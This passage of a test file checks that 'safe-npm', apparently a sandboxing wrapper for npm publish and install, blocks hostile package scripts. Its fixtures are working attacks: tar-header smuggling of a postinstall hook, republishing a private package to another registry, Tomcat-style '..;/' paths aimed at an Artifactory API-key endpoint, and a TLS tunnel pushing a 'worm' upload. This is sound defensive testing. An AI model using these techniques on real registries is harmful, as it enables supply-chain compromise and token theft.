      ) as { secondUpload: number };
      expect(seen.secondUpload).toBe(403);
      expect(run.stderr).toMatch(/a second upload of @private\/app-pkg in one run/);
      expect(registry.writes()).toHaveLength(1);
    },
  );

  it("control: an upload without the token is refused by the registry itself", async () => {
    // So the upload above can only have succeeded with the token the host added.
    const r = await put(registry, testCa, "@private%2fother", {}, "{}");
    expect(r).toBe(401);
  });

  it("control: with the token, the registry stores the hijacking document as it is", async () => {
    // So only safe-npm's check kept it from the package above.
    const r = await put(
      registry,
      testCa,
      "@private%2fcontrol",
      { authorization: `Bearer ${registry.token}`, "npm-otp": "123456" },
      JSON.stringify(HIJACK),
    );
    expect(r).toBe(201);
    expect(registry.published.get("@private/control")).toMatchObject({
      maintainers: [{ name: "attacker" }],
    });
  });
});

/** A world publishing @private/app-pkg with npm to `registry`, the token only on the host. */
function publishWorld(registry: PrivateRegistry, scripts: Record<string, string> = {}): World {
  const world = makeWorld({
    projectInHome: true,
    packageJson: { name: "@private/app-pkg", private: false, scripts, files: ["index.js"] },
  });
  writeFileSync(join(world.project, "index.js"), "module.exports = 1;\n");
  writePublishNpmrcs(world, registry);
  return world;
}

/**
 * The project's .npmrc names the private scope's registry; the user's ~/.npmrc its token, only
 * through a variable of the host's environment, then `homeExtra`.
 */
function writePublishNpmrcs(world: World, registry: PrivateRegistry, homeExtra = ""): void {
  writeFileSync(
    join(world.project, ".npmrc"),
    `@private:registry=${registry.url}\nregistry=http://127.0.0.1:9/\nupdate-notifier=false\n`,
  );
  writeFileSync(
    join(world.home, ".npmrc"),
    `@private:registry=${registry.url}\n//${new URL(registry.url).host}/:_authToken=\${NODE_AUTH_TOKEN}\nupdate-notifier=false\n${homeExtra}`,
  );
}

describe.skipIf(unavailable !== "")("safe-npm npm publish: 2FA asked on the terminal", () => {
  let registry: PrivateRegistry;
  let world: World;
  let exitCode: number | null;
  let output: string;
  beforeAll(async () => {
    registry = await startPrivateRegistry({ packed, otp: "123456" });
    world = publishWorld(registry);
    // No --otp: the registry answers the upload 401 + `www-authenticate: OTP`, npm asks for the
    // code on the terminal and sends the same upload again with `npm-otp`.
    const child = spawn(
      "script",
      [
        "-qec",
        [process.execPath, cliPath, "npm", "publish"].map(shellQuote).join(" "),
        "/dev/null",
      ],
      {
        cwd: world.project,
        env: { ...world.env, NODE_AUTH_TOKEN: registry.token },
        stdio: ["pipe", "pipe", "pipe"],
      },
    );
    let out = "";
    child.stdout.on("data", (d: Buffer) => {
      out += d.toString();
    });
    child.stderr.on("data", (d: Buffer) => {
      out += d.toString();
    });
    const exited = new Promise<number | null>((resolve) => child.on("exit", resolve));
    let prompted = false;
    for (let i = 0; i < 1200 && child.exitCode === null; i++) {
      if (/one-time password|OTP/i.test(out)) {
        prompted = true;
        break;
      }
      await new Promise((r) => setTimeout(r, 100));
    }
    if (prompted) child.stdin.write("123456\r");
    exitCode = await exited;
    output = out;
  });
  afterAll(async () => {
    world?.dispose();
    await registry?.close();
  });

  it("retries the refused upload with the code: one upload accepted, with the token", () => {
    expect(exitCode, output).toBe(0);
    // Both attempts reached the registry with the real token; only the second carried the code.
    expect(registry.writes().map((r) => [r.method, r.auth, r.otp])).toEqual([
      ["PUT", "token", null],
      ["PUT", "token", "123456"],
    ]);
    expect([...registry.published.keys()]).toEqual(["@private/app-pkg"]);
    expect(output).not.toMatch(/refused .*second upload/);
  });
});

describe.skipIf(unavailable !== "")(
  "safe-npm npm publish: a version changed during publish",
  () => {
    let registry: PrivateRegistry;
    let world: World;
    let run: RunResult;
    beforeAll(async () => {
      registry = await startPrivateRegistry({ packed });
      // A build step that bumps the version inside the sandbox: what is published is then chosen
      // by code inside, not by the package.json the user had before the run.
      world = publishWorld(registry, {
        prepublishOnly:
          "node -e \"const f='package.json';const p=JSON.parse(require('fs').readFileSync(f));p.version='1.0.1';require('fs').writeFileSync(f,JSON.stringify(p))\"",
      });
      run = await world.run(["npm", "publish"], { env: { NODE_AUTH_TOKEN: registry.token } });
    });
    afterAll(async () => {
      world?.dispose();
      await registry?.close();
    });

    it("is refused, naming the package, both versions and the fix", () => {
      expect(run.exitCode, show(run)).not.toBe(0);
      expect(registry.writes()).toEqual([]);
      expect(run.stderr).toMatch(
        /an upload of @private\/app-pkg@1\.0\.1: its package\.json held 1\.0\.0 before the run/,
      );
      expect(run.stderr).toMatch(/bump the version before safe-npm publish \(npm version patch/);
    });

    it("control: the script did change the version, and the registry takes it with the token", async () => {
      expect(JSON.parse(readFileSync(join(world.project, "package.json"), "utf8")).version).toBe(
        "1.0.1",
      );
      const doc = { ...SECOND, "dist-tags": { latest: "1.0.1" } } as Record<string, unknown>;
      doc.versions = { "1.0.1": { name: "@private/app-pkg", version: "1.0.1" } };
      doc._attachments = { "@private/app-pkg-1.0.1.tgz": { data: "H4sIAAAAAAAAAw==" } };
      const status = await put(
        registry,
        null,
        "@private%2fapp-pkg",
        { authorization: `Bearer ${registry.token}` },
        JSON.stringify(doc),
      );
      expect(status).toBe(201);
    });
  },
);

/**
 * A prepublishOnly script that builds its own tarball for the package being published: its
 * first package.json is the real one, and a second, which only node-tar reads as
 * `package/package.json` (a GNU header with a ustar prefix node-tar ignores; an old-GNU `N` long
 * name node-tar applies), names the package at the same version with an install script. The
 * control: the registry stores that document when it comes with the token.
 */
const SMUGGLER = String.raw`
const fs = require("node:fs");
const http = require("node:http");
const zlib = require("node:zlib");
function hdr(name, size, type, magic, prefix) {
  const b = Buffer.alloc(512);
  b.write(name, 0, 100, "utf8");
  b.write("0000644\0", 100); b.write("0000000\0", 108); b.write("0000000\0", 116);
  b.write(size.toString(8).padStart(11, "0") + "\0", 124);
  b.write("00000000000\0", 136);
  b.write(type, 156);
  b.write(magic, 257, 8, "latin1");
  b.write(prefix, 345, 155);
  b.fill(0x20, 148, 156);
  let sum = 0; for (const x of b) sum += x;
  b.write(sum.toString(8).padStart(6, "0") + "\0 ", 148);
  return b;
}
function entry(name, body, type = "0", magic = "ustar\u000000", prefix = "") {
  const d = Buffer.from(body);
  return Buffer.concat([hdr(name, d.length, type, magic, prefix), d, Buffer.alloc((512 - (d.length % 512)) % 512)]);
}
const pkg = JSON.parse(fs.readFileSync("package.json", "utf8"));
const real = JSON.stringify({ name: pkg.name, version: pkg.version });
const evil = JSON.stringify({ name: pkg.name, version: pkg.version, scripts: { postinstall: "echo SMUGGLED" } });
const tricks = {
  gnuPrefix: [entry("package/package.json", real), entry("package/package.json", evil, "0", "ustar  \0", "zzz")],
  oldGnuN: [entry("package/package.json", real), entry("././@LongLink", "package/package.json\0", "N"), entry("package/readme", evil)],
};
const proxy = new URL(process.env.HTTP_PROXY || process.env.http_proxy);
const registry = JSON.parse(fs.readFileSync("smuggle-target.json", "utf8")).registry;
const results = {};
const docs = {};
const names = Object.keys(tricks);
const next = (i) => {
  if (i === names.length) {
    fs.mkdirSync(".probe", { recursive: true });
    fs.writeFileSync(".probe/smuggle.json", JSON.stringify({ results, docs }));
    return;
  }
  const data = zlib.gzipSync(Buffer.concat([...tricks[names[i]], Buffer.alloc(1024)])).toString("base64");
  const doc = JSON.stringify({
    _id: pkg.name, name: pkg.name, "dist-tags": { latest: pkg.version },
    versions: { [pkg.version]: { name: pkg.name, version: pkg.version } },
    _attachments: { [pkg.name + "-" + pkg.version + ".tgz"]: { data } },
  });
  docs[names[i]] = doc;
  const req = http.request({ host: proxy.hostname, port: proxy.port, method: "PUT",
    path: registry + pkg.name.replace("/", "%2f"), headers: { "content-type": "application/json" },
    // Node 24 proxies by itself under NODE_USE_ENV_PROXY and rejects a hand-made proxy request.
    agent: false },
    (res) => { res.resume(); res.on("end", () => { results[names[i]] = res.statusCode; next(i + 1); }); });
  req.on("error", (e) => { results[names[i]] = e.message; next(i + 1); });
  req.end(doc);
};
next(0);
`;

/**
 * A prepublishOnly script that publishes the package being published, a well-formed upload of
 * its very version, to another registry the user holds a token for (`elsewhere.json` names it):
 * a private package put on a public registry under the user's account.
 */
const ELSEWHERE = String.raw`
const fs = require("node:fs");
const http = require("node:http");
const zlib = require("node:zlib");
function entry(name, body) {
  const d = Buffer.from(body);
  const b = Buffer.alloc(512);
  b.write(name, 0, 100, "utf8");
  b.write("0000644\0", 100); b.write("0000000\0", 108); b.write("0000000\0", 116);
  b.write(d.length.toString(8).padStart(11, "0") + "\0", 124);
  b.write("00000000000\0", 136);
  b.write("0", 156);
  b.write("ustar\u000000", 257, 8, "latin1");
  b.fill(0x20, 148, 156);
  let sum = 0; for (const x of b) sum += x;
  b.write(sum.toString(8).padStart(6, "0") + "\0 ", 148);
  return Buffer.concat([b, d, Buffer.alloc((512 - (d.length % 512)) % 512)]);
}
const pkg = JSON.parse(fs.readFileSync("package.json", "utf8"));
const tar = Buffer.concat([entry("package/package.json", JSON.stringify({ name: pkg.name, version: pkg.version })), Buffer.alloc(1024)]);
const doc = JSON.stringify({
  _id: pkg.name, name: pkg.name, "dist-tags": { latest: pkg.version },
  versions: { [pkg.version]: { name: pkg.name, version: pkg.version } },
  _attachments: { [pkg.name + "-" + pkg.version + ".tgz"]: { data: zlib.gzipSync(tar).toString("base64") } },
});
const proxy = new URL(process.env.HTTP_PROXY || process.env.http_proxy);
const target = JSON.parse(fs.readFileSync("elsewhere.json", "utf8")).registry;
const done = (status, body) => {
  fs.mkdirSync(".probe", { recursive: true });
  fs.writeFileSync(".probe/elsewhere.json", JSON.stringify({ status, body, doc }));
};
const req = http.request({ host: proxy.hostname, port: proxy.port, method: "PUT",
  path: target + pkg.name.replace("/", "%2f"), headers: { "content-type": "application/json" }, agent: false },
  (res) => { let body = ""; res.on("data", (c) => (body += c)); res.on("end", () => done(res.statusCode, body)); });
req.on("error", (e) => done(e.code, ""));
req.end(doc);
`;

describe.skipIf(unavailable !== "")(
  "safe-npm npm publish: the package goes only to the registry the command publishes it to",
  () => {
    let registry: PrivateRegistry;
    let other: PrivateRegistry;
    let world: World;
    let run: RunResult;
    let seen: { status?: number | string; body?: string; doc?: string };
    beforeAll(async () => {
      registry = await startPrivateRegistry({ packed });
      // Another registry the user publishes other packages to, with a token of its own.
      other = await startPrivateRegistry({ packed });
      world = publishWorld(registry, { prepublishOnly: "node elsewhere.cjs" });
      writePublishNpmrcs(
        world,
        registry,
        `@oss:registry=${other.url}\n//${new URL(other.url).host}/:_authToken=${other.token}\n`,
      );
      writeFileSync(join(world.project, "elsewhere.cjs"), ELSEWHERE);
      writeFileSync(join(world.project, "elsewhere.json"), JSON.stringify({ registry: other.url }));
      writeFileSync(
        join(world.project, ".git", "info", "exclude"),
        "elsewhere.cjs\nelsewhere.json\n",
      );
      run = await world.run(["npm", "publish"], { env: { NODE_AUTH_TOKEN: registry.token } });
      const file = join(world.project, ".probe", "elsewhere.json");
      seen = existsSync(file) ? (JSON.parse(readFileSync(file, "utf8")) as typeof seen) : {};
    }, 300_000);
    afterAll(async () => {
      world?.dispose();
      await registry?.close();
      await other?.close();
    });

    it("the script's upload to the other registry is refused; the real publish goes up", () => {
      expect(seen.status, show(run)).toBe(403);
      expect(seen.body).toContain("not where this command publishes it");
      expect(other.writes()).toEqual([]);
      expect(run.exitCode, show(run)).toBe(0);
      expect(registry.writes().map((r) => [r.method, r.auth])).toEqual([["PUT", "token"]]);
      expect(run.stderr).toMatch(/refused 1 request to the registry 127\.0\.0\.1:\d+: PUT /);
    });

    it("control: with its token, the other registry stores the script's document", async () => {
      const status = await put(
        other,
        null,
        "@private%2fapp-pkg",
        { authorization: `Bearer ${other.token}`, "content-type": "application/json" },
        seen.doc ?? "",
      );
      expect(status).toBe(201);
    });
  },
);

describe.skipIf(unavailable !== "")(
  "safe-npm npm publish: a publishConfig.registry that config does not name stops the run",
  () => {
    let registry: PrivateRegistry;
    let other: PrivateRegistry;
    let world: World;
    beforeAll(async () => {
      registry = await startPrivateRegistry({ packed });
      other = await startPrivateRegistry({ packed });
      world = publishWorld(registry);
      writePublishNpmrcs(
        world,
        registry,
        `@oss:registry=${other.url}\n//${new URL(other.url).host}/:_authToken=${other.token}\n`,
      );
      // What an install's postinstall could write into the project's package.json.
      const file = join(world.project, "package.json");
      const pkg = JSON.parse(readFileSync(file, "utf8"));
      writeFileSync(file, JSON.stringify({ ...pkg, publishConfig: { registry: other.url } }));
    }, 300_000);
    afterAll(async () => {
      world?.dispose();
      await registry?.close();
      await other?.close();
    });

    it("refuses before the run, naming both registries and the flag that confirms it", async () => {
      const run = await world.run(["npm", "publish"], { env: { NODE_AUTH_TOKEN: registry.token } });
      expect(run.exitCode, show(run)).toBe(125);
      expect(run.stderr).toContain(`sets publishConfig.registry to ${other.url}`);
      expect(run.stderr).toContain(`your config publishes it to ${registry.url}`);
      expect(run.stderr).toContain(`safe-npm publish --registry ${other.url}`);
      expect(other.writes()).toEqual([]);
      expect(registry.writes()).toEqual([]);
    });

    it("with --registry naming it, runs; npm sends the scoped name to its scope's registry", async () => {
      const run = await world.run(["npm", "publish", "--registry", other.url], {
        env: { NODE_AUTH_TOKEN: registry.token },
      });
      expect(run.exitCode, show(run)).toBe(0);
      expect(run.stderr).not.toContain("publishConfig.registry");
      expect(registry.writes().map((r) => [r.method, r.auth])).toEqual([["PUT", "token"]]);
      expect(other.writes()).toEqual([]);
    });
  },
);

describe.skipIf(unavailable !== "")(
  "safe-npm npm publish: a tarball whose package.json only node-tar reads",
  () => {
    let registry: PrivateRegistry;
    let world: World;
    let run: RunResult;
    let seen: { results: Record<string, number | string>; docs: Record<string, string> };
    beforeAll(async () => {
      registry = await startPrivateRegistry({ packed });
      world = publishWorld(registry, { prepublishOnly: "node smuggle.cjs" });
      writeFileSync(join(world.project, "smuggle.cjs"), SMUGGLER);
      writeFileSync(
        join(world.project, "smuggle-target.json"),
        JSON.stringify({ registry: registry.url }),
      );
      writeFileSync(
        join(world.project, ".git", "info", "exclude"),
        "smuggle.cjs\nsmuggle-target.json\n",
      );
      run = await world.run(["npm", "publish"], { env: { NODE_AUTH_TOKEN: registry.token } });
      const file = join(world.project, ".probe", "smuggle.json");
      seen = existsSync(file)
        ? (JSON.parse(readFileSync(file, "utf8")) as typeof seen)
        : { results: {}, docs: {} };
    }, 300_000);
    afterAll(async () => {
      world?.dispose();
      await registry?.close();
    });

    it("each smuggling upload is refused on its tarball; the real publish goes up", () => {
      expect(seen.results, show(run)).toEqual({ gnuPrefix: 403, oldGnuN: 403 });
      expect(run.stderr).toMatch(/tarball cannot be read: a tar header that is not POSIX ustar/);
      expect(run.stderr).toMatch(/tarball cannot be read: a tar entry of type N/);
      expect(run.exitCode, show(run)).toBe(0);
      expect(registry.writes().map((r) => [r.method, r.auth])).toEqual([["PUT", "token"]]);
      const doc = registry.published.get("@private/app-pkg") ?? {};
      const attachment = Object.values(doc._attachments as Record<string, { data: string }>)[0];
      expect(Buffer.from(attachment?.data ?? "", "base64").toString("latin1")).not.toContain(
        "SMUGGLED",
      );
    });

    it("control: with the token, the registry stores each smuggling document as it is", async () => {
      for (const [trick, doc] of Object.entries(seen.docs)) {
        const name = `@private/control-${trick.toLowerCase()}`;
        const renamed = doc.replaceAll("@private/app-pkg", name);
        const status = await put(
          registry,
          null,
          name.replace("/", "%2f"),
          { authorization: `Bearer ${registry.token}` },
          renamed,
        );
        expect(status, trick).toBe(201);
        expect(registry.published.has(name), trick).toBe(true);
      }
      expect(Object.keys(seen.docs)).toHaveLength(2);
    });
  },
);

describe.skipIf(unavailable !== "")(
  "safe-npm npm publish to a registry that requires a client certificate",
  () => {
    let tls: TestCa;
    let registry: PrivateRegistry;
    let world: World;
    let run: RunResult;
    let certfile: string;
    let keyfile: string;
    const direct = (cert: boolean) =>
      new Promise<number | string>((resolve) => {
        https
          .get(
            `${registry.url}@private%2fregistry-probe`,
            {
              ca: tls.ca,
              headers: { authorization: `Bearer ${registry.token}` },
              ...(cert ? { cert: tls.clientCert, key: tls.clientKey } : {}),
            },
            (res) => {
              res.resume();
              resolve(res.statusCode ?? 0);
            },
          )
          .on("error", (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
      });
    beforeAll(async () => {
      tls = await makeTestCa();
      registry = await startPrivateRegistry({
        packed,
        tls: { key: tls.key, cert: tls.cert, clientCa: tls.ca },
      });
      // The prepublishOnly script looks for the key where ~/.npmrc says it is.
      world = publishWorld(registry, {
        prepublishOnly:
          "node -e \"const fs=require('fs');const os=require('os');const rc=fs.readFileSync(os.homedir()+'/.npmrc','utf8');const key=fs.readFileSync(process.env.KEYFILE_AT,'utf8').length;fs.mkdirSync('.probe',{recursive:true});fs.writeFileSync('.probe/mtls.json',JSON.stringify({rc,key}))\" || node -e \"const fs=require('fs');const os=require('os');fs.mkdirSync('.probe',{recursive:true});fs.writeFileSync('.probe/mtls.json',JSON.stringify({rc:fs.readFileSync(os.homedir()+'/.npmrc','utf8'),key:null}))\"",
      });
      const certs = join(world.home, ".certs");
      mkdirSync(certs);
      certfile = join(certs, "publisher.pem");
      keyfile = join(certs, "publisher.key");
      writeFileSync(certfile, tls.clientCert);
      writeFileSync(keyfile, tls.clientKey, { mode: 0o600 });
      const cafile = join(world.dir, "registry-ca.pem");
      writeFileSync(cafile, tls.ca);
      const host = new URL(registry.url).host;
      writeFileSync(
        join(world.home, ".npmrc"),
        `${readFileSync(join(world.home, ".npmrc"), "utf8")}cafile=${cafile}\n//${host}/:certfile=${certfile}\n//${host}/:keyfile=${keyfile}\n`,
      );
      run = await world.run(["npm", "publish"], {
        env: { NODE_AUTH_TOKEN: registry.token, KEYFILE_AT: keyfile },
      });
    });
    afterAll(async () => {
      world?.dispose();
      await registry?.close();
    });

    it("control: the registry serves only a client that presents the certificate", async () => {
      expect(await direct(true)).toBe(200);
      expect(await direct(false)).not.toBe(200);
    });

    it("publishes: the gateway presents the certificate upstream, with the token", () => {
      expect(run.exitCode, show(run)).toBe(0);
      expect(registry.writes().map((r) => [r.method, r.auth])).toEqual([["PUT", "token"]]);
      expect([...registry.published.keys()]).toEqual(["@private/app-pkg"]);
    });

    it("inside, ~/.npmrc names neither file, and the key file is not there", () => {
      const seen = JSON.parse(readFileSync(join(world.project, ".probe", "mtls.json"), "utf8")) as {
        rc: string;
        key: number | null;
      };
      expect(seen.rc).not.toMatch(/certfile|keyfile/);
      expect(seen.key).toBeNull();
    });
  },
);

/**
 * A credential is bound to its registry's path, and the server behind may read a path otherwise
 * than the WHATWG parser: Tomcat (Artifactory) drops `;params` from each segment before it
 * resolves dot segments, so `/npm/registry/..;/..;/api/security/apiKey` is its own API there. The
 * server here resolves paths that way and logs what it resolved and which authorization came; a
 * postinstall sends the tricks through the proxy (plain http, the https gateway; npm's
 * credential and yarn berry's). The controls: the server does resolve them
 * out of the registry (asked directly), and in the same run a plain read under the registry's
 * path arrives with the token, so the proxy was adding it.
 */
interface TomcatHit {
  method: string;
  raw: string;
  resolved: string;
  auth: string | null;
}

/** Tomcat's order: drop `;…` from each segment, decode, then resolve `.` and `..`. */
function tomcatResolve(raw: string): string {
  const out: string[] = [];
  for (const segment of (raw.split("?")[0] ?? "").split("/").slice(1)) {
    let s = segment.replace(/;.*$/, "");
    try {
      s = decodeURIComponent(s);
    } catch {}
    if (s === "..") out.pop();
    else if (s !== ".") out.push(s);
  }
  return `/${out.join("/")}`;
}

async function startTomcatLike(tls: TestCa | null): Promise<{
  url: string;
  hits: TomcatHit[];
  close: () => Promise<void>;
}> {
  const hits: TomcatHit[] = [];
  const handler = (req: http.IncomingMessage, res: http.ServerResponse): void => {
    const raw = req.url ?? "";
    const resolved = tomcatResolve(raw);
    hits.push({ method: req.method ?? "", raw, resolved, auth: req.headers.authorization ?? null });
    req.resume();
    res.writeHead(200, { "content-type": "application/json" });
    res.end(JSON.stringify({ resolved }));
  };
  const server =
    tls === null
      ? http.createServer(handler)
      : https.createServer({ key: tls.key, cert: tls.cert }, handler);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as { port: number };
  return {
    url: `${tls === null ? "http" : "https"}://127.0.0.1:${port}`,
    hits,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

const PATH_TRICKS = [
  "/npm/registry/..;/..;/api/security/apiKey",
  "/api/security/apiKey;x.tgz",
  "/npm/registry/%2e%2e;/%2e%2e;/api/security/apiKey",
  "/npm/registry/..;foo/..;bar/api/security/apiKey",
];

describe.skipIf(unavailable !== "").each([
  { name: "npm, http", scheme: "http", manager: MANAGERS[0] as Manager },
  { name: "npm, https", scheme: "https", manager: MANAGERS[0] as Manager },
  // yarn berry's credential (~/.yarnrc.yml's npmAuthToken for its npmRegistryServer).
  { name: "yarn 4, http", scheme: "http", manager: MANAGERS[4] as Manager },
])(
  "the token stays under its registry's path (Tomcat-style server, $name)",
  ({ scheme, manager }) => {
    const TOKEN = "TOMCAT-PATH-SECRET";
    let tls: TestCa | null = null;
    let server: Awaited<ReturnType<typeof startTomcatLike>>;
    let world: World;
    let run: RunResult;
    let results: Record<string, { status: number | null; body: string }>;
    beforeAll(async () => {
      tls = scheme === "https" ? await makeTestCa() : null;
      server = await startTomcatLike(tls);
      world = makeWorld({
        projectInHome: true,
        packageJson: {
          scripts: { postinstall: "node attack.cjs" },
          ...(manager.packageJson.packageManager === undefined
            ? {}
            : { packageManager: manager.packageJson.packageManager }),
        },
      });
      const registry = `${server.url}/npm/registry/`;
      if (manager.berry) {
        writeFileSync(
          join(world.home, ".yarnrc.yml"),
          `npmRegistryServer: "${registry.replace(/\/$/, "")}"\nnpmAuthToken: "${TOKEN}"\n`,
        );
        writeFileSync(
          join(world.project, ".yarnrc.yml"),
          "nodeLinker: node-modules\nenableTelemetry: false\n",
        );
      }
      // https: the host trusts the server's CA through `cafile` (beside the home).
      const cafile = join(world.dir, "tomcat-ca.pem");
      if (tls !== null) writeFileSync(cafile, tls.ca);
      writeFileSync(
        join(world.home, ".npmrc"),
        `registry=${registry}\n//${new URL(registry).host}/npm/registry/:_authToken=${TOKEN}\nupdate-notifier=false\n${tls === null ? "" : `cafile=${cafile}\n`}`,
      );
      writeFileSync(
        join(world.project, ".npmrc"),
        "audit=false\nfund=false\nupdate-notifier=false\n",
      );
      // As any script can: plain http as absolute URIs to HTTP_PROXY; https through a CONNECT
      // tunnel, trusting the gateway's CA as node inside does (NODE_EXTRA_CA_CERTS).
      writeFileSync(
        join(world.project, "attack.cjs"),
        `const http = require("node:http");
const tls = require("node:tls");
const fs = require("node:fs");
const proxy = new URL(process.env.HTTP_PROXY || process.env.http_proxy);
const target = new URL(${JSON.stringify(server.url)});
const paths = ${JSON.stringify(["/npm/registry/attack-control", ...PATH_TRICKS])};
const results = {};
const onResponse = (resolve) => (res) => {
  let body = "";
  res.on("data", (c) => (body += c));
  res.on("end", () => resolve({ status: res.statusCode, body }));
};
const get = (path) =>
  new Promise((resolve) => {
    const fail = (e) => resolve({ status: null, body: e.message });
    // A hung exchange is a result, not a hung install.
    setTimeout(() => resolve({ status: null, body: "no answer in 60 s" }), 60000).unref();
    if (target.protocol === "http:") {
      const req = http.request(
        // agent: false: Node 24 proxies by itself under NODE_USE_ENV_PROXY and rejects a hand-made proxy request.
        { host: proxy.hostname, port: proxy.port, method: "GET", path: target.origin + path, agent: false },
        onResponse(resolve),
      );
      req.on("error", fail);
      req.end();
      return;
    }
    const connect = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: target.host, agent: false });
    connect.on("error", fail);
    connect.on("connect", (res, socket) => {
      if (res.statusCode !== 200) return resolve({ status: res.statusCode, body: "CONNECT refused" });
      // One request by hand on the TLS socket: the status line and what follows are enough.
      const s = tls.connect({ socket, host: target.hostname, servername: "" });
      let raw = "";
      s.on("data", (c) => (raw += c));
      s.on("error", fail);
      s.on("end", () => {
        const status = Number(/^HTTP\\/1\\.1 (\\d+)/.exec(raw)?.[1] ?? Number.NaN);
        resolve({ status: Number.isNaN(status) ? null : status, body: raw.split("\\r\\n\\r\\n").slice(1).join("") });
      });
      s.write("GET " + path + " HTTP/1.1\\r\\nHost: " + target.host + "\\r\\nConnection: close\\r\\n\\r\\n");
    });
    connect.end();
  });
(async () => {
  for (const path of paths) results[path] = await get(path);
  fs.mkdirSync(".probe", { recursive: true });
  fs.writeFileSync(".probe/attack.json", JSON.stringify(results));
})();
`,
      );
      const bin = join(world.dir, "pm-bin");
      mkdirSync(bin, { recursive: true });
      if (manager.bin !== null) symlinkSync(manager.bin, join(bin, manager.tool));
      run = await world.run([manager.tool, "install"], {
        env: { PATH: `${bin}:${world.env.PATH}` },
      });
      const file = join(world.project, ".probe", "attack.json");
      results = existsSync(file) ? (JSON.parse(readFileSync(file, "utf8")) as typeof results) : {};
    }, 300_000);
    afterAll(async () => {
      world?.dispose();
      await server?.close();
    });

    it("control: the server resolves each trick to its own API, outside the registry's path", async () => {
      for (const path of PATH_TRICKS) {
        const resolved = await new Promise<string>((resolve, reject) => {
          (tls === null ? http : https)
            .get(`${server.url}${path}`, tls === null ? {} : { ca: tls.ca }, (res) => {
              let body = "";
              res.on("data", (c: Buffer) => {
                body += c.toString();
              });
              res.on("end", () => resolve((JSON.parse(body) as { resolved: string }).resolved));
            })
            .on("error", reject);
        });
        expect(resolved, path).toMatch(/^\/api\/security\/apiKey/);
      }
    });

    it("control: in the same run a read under the registry's path arrived with the token", () => {
      expect(run.exitCode, show(run)).toBe(0);
      expect(results["/npm/registry/attack-control"]?.status, show(run)).toBe(200);
      const control = server.hits.filter((h) => h.raw === "/npm/registry/attack-control");
      expect(control.map((h) => h.auth)).toEqual([`Bearer ${TOKEN}`]);
    });

    it("each trick is refused with 403 and reported; the server never saw the token outside its path", () => {
      for (const path of PATH_TRICKS) {
        expect(results[path]?.status, `${path}\n${show(run)}`).toBe(403);
        expect(results[path]?.body).toContain("safe-npm: refused");
        expect(results[path]?.body).toContain("bound to its path");
      }
      const leaked = server.hits.filter(
        (h) => h.auth !== null && !h.resolved.startsWith("/npm/registry/"),
      );
      expect(leaked).toEqual([]);
      expect(run.stderr).toMatch(/refused \d+ requests to the registry 127\.0\.0\.1:\d+/);
      expect(run.stderr + run.stdout).not.toContain(TOKEN);
    });
  },
);

/**
 * With only http:// registries, no local CA is made, so the gateway cannot look into TLS: a
 * tunnel to such a registry must then refuse TLS, or a project's `registry=http://host:443/`
 * (naming an https registry by an http URL) would turn the CA off and open an unseen tunnel.
 * Here the user's own file names the server by http:// while it speaks https; a postinstall
 * tries a PUT over TLS through a CONNECT tunnel, trusting the server's own CA (as a script
 * trusts a public registry's). The server must see nothing, and the run says why.
 */
describe.skipIf(unavailable !== "")("TLS to a registry named by an http:// URL", () => {
  let tls: TestCa;
  let server: Awaited<ReturnType<typeof startTomcatLike>>;
  let world: World;
  let run: RunResult;
  let result: { outcome?: string; env?: Record<string, string> };
  beforeAll(async () => {
    tls = await makeTestCa();
    server = await startTomcatLike(tls);
    const target = new URL(server.url).host;
    world = makeWorld({
      projectInHome: true,
      packageJson: { scripts: { postinstall: "node attack.cjs" } },
    });
    writeFileSync(
      join(world.home, ".npmrc"),
      `registry=http://${target}/\nupdate-notifier=false\n`,
    );
    writeFileSync(join(world.project, ".npmrc"), "audit=false\nfund=false\n");
    writeFileSync(
      join(world.project, "attack.cjs"),
      `const http = require("node:http");
const tls = require("node:tls");
const fs = require("node:fs");
const proxy = new URL(process.env.HTTP_PROXY || process.env.http_proxy);
let written = false;
const done = (outcome) => {
  if (written) return;
  written = true;
  fs.mkdirSync(".probe", { recursive: true });
  fs.writeFileSync(".probe/tls.json", JSON.stringify({ outcome, env: process.env }));
};
setTimeout(() => done("no answer in 60 s"), 60000).unref();
const connect = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: ${JSON.stringify(target)}, agent: false });
connect.on("error", (e) => done("CONNECT error " + e.code));
connect.on("connect", (res, socket) => {
  if (res.statusCode !== 200) return done("CONNECT " + res.statusCode);
  const s = tls.connect({ socket, ca: ${JSON.stringify(tls.ca)}, host: "127.0.0.1", servername: "" }, () => {
    s.write("PUT /worm HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}");
  });
  let raw = "";
  s.on("data", (c) => (raw += c));
  s.on("error", (e) => done("TLS error " + e.code));
  s.on("close", () => done(raw === "" ? "closed" : "answered " + raw.split("\\r\\n")[0]));
});
connect.end();
`,
    );
    run = await world.run(["--verbose", "npm", "install"]);
    const file = join(world.project, ".probe", "tls.json");
    result = existsSync(file) ? (JSON.parse(readFileSync(file, "utf8")) as typeof result) : {};
  }, 300_000);
  afterAll(async () => {
    world?.dispose();
    await server?.close();
  });

  it("the install runs, and the sandbox gets no local CA", () => {
    expect(run.exitCode, show(run)).toBe(0);
    expect(result.env?.HTTPS_PROXY, show(run)).toBeDefined();
    expect(result.env?.NODE_EXTRA_CA_CERTS).toBeUndefined();
  });

  it("the handshake is refused: the server sees nothing, and the run names the fix", () => {
    expect(result.outcome, show(run)).toBeDefined();
    expect(result.outcome).not.toMatch(/^answered/);
    expect(server.hits).toEqual([]);
    expect(run.stderr).toMatch(
      /refused 1 TLS connection to 127\.0\.0\.1:\d+: your config names that registry by an http:\/\/ URL/,
    );
  });
});
